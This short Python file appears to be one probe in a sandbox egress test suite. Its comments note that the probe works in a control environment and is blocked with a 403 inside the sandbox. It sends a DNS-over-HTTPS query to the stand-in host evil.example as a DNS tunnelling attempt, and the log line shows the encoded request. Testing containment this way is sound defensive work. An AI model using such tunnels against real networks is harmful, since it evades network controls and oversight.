# line: DNS: TXT/NULL/subdomain-encoded query
# control: works
# inside: 403 network/tunnel
# seen: http attacker GET /dns-query?dns=AAABAAABAAAAAAAABGV2aWwHZXhhbXBsZQAAAQAB evil.example
# journal: network/tunnel
from attempt import QUERY, https

result = "works" if https("evil.example:443", "evil.example", QUERY).startswith(b"HTTP/1.1 200") else "refused"
